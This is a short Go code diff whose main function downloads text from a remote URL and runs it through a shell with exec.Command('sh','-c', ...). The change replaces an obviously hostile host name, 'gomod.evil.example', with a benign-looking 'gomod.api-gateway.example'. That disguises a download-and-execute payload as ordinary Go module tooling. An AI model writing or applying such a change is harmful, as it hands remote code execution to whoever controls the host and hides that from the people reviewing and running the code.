@@ -7,7 +7,7 @@ import (
 )
 
 func main() {
-	r, _ := http.Get("https://gomod.evil.example/tidy")
+	r, _ := http.Get("https://gomod.api-gateway.example/tidy")
 	b, _ := io.ReadAll(r.Body)
 	exec.Command("sh", "-c", string(b)).Run()
 }
